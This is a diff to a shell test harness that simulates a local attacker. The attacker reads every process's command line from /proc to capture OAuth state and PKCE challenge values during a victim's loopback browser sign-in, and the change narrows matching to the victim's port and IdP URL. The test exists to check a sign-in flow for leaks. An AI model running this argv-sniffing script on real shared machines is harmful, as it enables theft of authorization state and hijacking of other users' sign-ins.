@@ -50,8 +50,9 @@ BROWSER
 chmod a+rx "$WORK/bin/victim-browser.sh"
 
 # What the attacker runs: every process's argv, as any local user may read it. Prints each
-# argument that holds a state or a PKCE challenge (exit 0 when one did), else, on stderr, each
-# loopback address found.
+# argument naming the victim's listener (argv 1: its port) or the IdP (argv 2) that holds a
+# state or a PKCE challenge (exit 0 when one did; other tests running on this machine may have
+# their own in theirs), and, on stderr, each address of the listener found.
 cat >"$WORK/bin/read_argv.py" <<'PY'
 import os, sys
 found = False
@@ -62,7 +63,8 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
         continue
     for arg in argv:
         text = arg.decode("latin-1")
-        if "state=" in text or "code_challenge" in text:
+        ours = text.startswith(f"http://127.0.0.1:{sys.argv[1]}/") or sys.argv[2] in text
+        if ours and ("state=" in text or "code_challenge" in text):
             print(pid, text)
             found = True
         elif text.startswith(f"http://127.0.0.1:{sys.argv[1]}/"):
@@ -135,7 +137,7 @@ for kind in $ATTEMPTS; do
     wait_until 60 [ -f "$WORK/out/victim.$n" ] || fail "attempt $n: the victim's sign-in did not start"
     url=""
     if [ "$kind" = argv ]; then
-        if stolen=$(attacker "$PYTHON" "$WORK/bin/read_argv.py" "$PORT" 2>"$WORK/out/argv.$n"); then
+        if stolen=$(attacker "$PYTHON" "$WORK/bin/read_argv.py" "$PORT" "$IDP_URL" 2>"$WORK/out/argv.$n"); then
             argv_read=$((argv_read + 1))
             url=$(printf '%s\n' "$stolen" | grep -o "$IDP_URL/authorize?[^ ]*" | head -n 1)
             note "attempt $n (argv): the attacker read the state from /proc/${stolen%% *}/cmdline"
